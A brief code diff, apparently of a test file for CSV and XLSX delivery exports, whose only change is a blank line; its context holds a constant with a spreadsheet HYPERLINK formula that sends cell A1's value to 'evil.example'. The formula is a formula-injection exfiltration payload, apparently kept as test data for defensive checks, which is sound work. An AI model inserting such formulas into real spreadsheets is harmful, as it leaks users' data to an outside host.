@@ -11,6 +11,7 @@ import zipfile
 from pathlib import Path
 
 import xlsxwriter
+
 from support.deliveries import ENROLMENT, H1, H2, H3, JOBS, client, job, write_csv
 
 FORMULA_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
